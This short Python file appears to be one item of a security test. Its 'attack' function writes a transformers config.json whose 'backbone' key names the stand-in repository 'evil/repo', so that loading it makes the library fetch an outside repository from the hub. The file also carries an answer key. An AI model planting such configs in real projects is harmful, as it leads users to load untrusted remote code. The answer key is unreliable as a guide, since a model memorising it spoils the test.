"""A config whose key `backbone` makes transformers ask the hub for a stranger's repository."""

import json
from pathlib import Path

ANSWER = "backbone names 'evil/repo', which transformers would fetch from the hub"
BUILDS = True


def attack(folder: Path) -> list[str]:
    """Write the config; the command that reads it."""
    config = {"model_type": "dpt", "backbone": "evil/repo", "use_timm_backbone": False, "use_pretrained_backbone": True}
    (folder / "config.json").write_text(json.dumps({**config, "backbone_config": None}))
    return ["count", "config.json"]
